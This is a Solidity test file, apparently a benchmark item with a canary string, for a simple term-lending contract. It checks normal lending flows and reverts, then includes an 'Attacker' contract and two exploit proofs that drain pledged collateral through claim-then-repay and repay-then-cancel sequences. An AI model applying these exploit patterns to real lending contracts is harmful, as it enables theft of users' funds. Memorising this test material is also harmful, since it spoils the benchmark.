// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "@openzeppelin/contracts@3.4.2-solc-0.7/token/ERC20/ERC20.sol";
import "./TermLoans.sol";

// assay-canary-be0eef08-d478-4145-93f2-8a54415a6b2e

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 100_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_620_000_000;

    Coin private coin;
    Coin private asset_;
    TermLoans private loans;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        coin = new Coin();
        asset_ = new Coin();
        loans = new TermLoans(asset_, coin);
        asset_.transfer(ANA, 3_000e18);
        coin.transfer(ANA, 1_000e18);
        coin.transfer(BEN, 1_000e18);
        vm.prank(BEN);
        coin.approve(address(loans), uint256(-1));
        vm.startPrank(ANA);
        asset_.approve(address(loans), uint256(-1));
        coin.approve(address(loans), uint256(-1));
        loans.request(2_000e18, 100e18, 5e18, 60 days);
        vm.stopPrank();
        mallory = new Attacker(loans, coin, asset_);
        asset_.transfer(address(mallory), 1_000e18);
        coin.transfer(address(mallory), 2);
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        loans.request(300e18, 50e18, 1e18, 30 days);
        loans.request(200e18, 40e18, 1e18, 30 days);
        loans.request(100e18, 40e18, 1e18, 30 days);
        loans.cancel(3);
        vm.stopPrank();
        require(asset_.balanceOf(address(loans)) == 2_500e18, "pledged");
        vm.warp(START + 40 days);
        vm.startPrank(BEN);
        loans.fund(1);
        loans.fund(2);
        vm.stopPrank();
        require(coin.balanceOf(ANA) == 1_090e18 && coin.balanceOf(BEN) == 910e18, "lent");
        vm.warp(START + 70 days);
        vm.prank(ANA);
        loans.repay(1);
        require(coin.balanceOf(address(loans)) == 51e18 && asset_.balanceOf(ANA) == 800e18, "repaid");
        vm.warp(START + 70 days + 1);
        vm.startPrank(BEN);
        loans.claim(1);
        loans.claim(2);
        vm.stopPrank();
        require(coin.balanceOf(BEN) == 961e18 && asset_.balanceOf(BEN) == 200e18, "claimed");
        vm.prank(ANA);
        loans.cancel(0);
        require(asset_.balanceOf(ANA) == 2_800e18 && asset_.balanceOf(address(loans)) == 0, "given back");
    }

    function test_RefusesTerms() public {
        vm.expectRevert("!coin");
        new TermLoans(coin, coin);
        vm.startPrank(ANA);
        vm.expectRevert("!term");
        loans.request(1, 1, 1, 0);
        vm.expectRevert("!term");
        loans.request(1, 1, 1, 365 days + 1);
        loans.request(1, 1, 1, 365 days);
        vm.expectRevert("!borrower");
        loans.repay(0);
        vm.stopPrank();
    }

    function test_RefusesOthers() public {
        vm.startPrank(BEN);
        vm.expectRevert("!borrower");
        loans.cancel(0);
        loans.fund(0);
        vm.expectRevert("!open");
        loans.fund(0);
        vm.expectRevert("!borrower");
        loans.repay(0);
        vm.stopPrank();
        vm.startPrank(ANA);
        vm.expectRevert("!open");
        loans.cancel(0);
        vm.warp(START + 61 days);
        vm.expectRevert("!lender");
        loans.claim(0);
        vm.stopPrank();
    }

    function test_RefusesTimes() public {
        vm.warp(START + 60 days);
        vm.startPrank(BEN);
        loans.fund(0);
        vm.warp(START + 120 days - 1);
        vm.expectRevert("!due");
        loans.claim(0);
        vm.warp(START + 120 days + 1);
        loans.claim(0);
        vm.expectRevert("!claimed");
        loans.claim(0);
        vm.stopPrank();
    }

    function test_RefusesCancelled() public {
        vm.startPrank(ANA);
        loans.cancel(0);
        vm.expectRevert("!borrower");
        loans.cancel(0);
        vm.stopPrank();
        vm.prank(BEN);
        vm.expectRevert("!open");
        loans.fund(0);
    }

    function test_RefusesLateness() public {
        vm.prank(BEN);
        loans.fund(0);
        vm.warp(START + 60 days + 1);
        vm.prank(ANA);
        vm.expectRevert("!late");
        loans.repay(0);
    }

    function test_RefusesTwice() public {
        vm.prank(BEN);
        loans.fund(0);
        vm.startPrank(ANA);
        loans.request(1_000e18, 1, 1, 30 days);
        loans.repay(0);
        vm.expectRevert("!late");
        loans.repay(0);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.open();
        vm.warp(block.timestamp + 1 days);
        mallory.close();
    }

    function test_Exploit() public {
        exploit();
        require(asset_.balanceOf(address(mallory)) >= 1_900e18, "nothing gained");
    }

    function exploit2() public {
        mallory.twice();
    }

    function test_Exploit2() public {
        exploit2();
        require(asset_.balanceOf(address(mallory)) >= 1_900e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(loans);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function asset() public view returns (address) {
        return address(asset_);
    }
}

contract Attacker {
    TermLoans private loans;

    constructor(TermLoans l, Coin c, Coin a) {
        loans = l;
        c.approve(address(l), uint256(-1));
        a.approve(address(l), uint256(-1));
    }

    function twice() external {
        loans.request(1_000e18, 1, 1, 1 days);
        loans.fund(1);
        loans.repay(1);
        loans.cancel(1);
    }

    function open() external {
        loans.request(1_000e18, 1, 1, 1 days);
        loans.fund(1);
    }

    function close() external {
        loans.claim(1);
        loans.repay(1);
    }
}
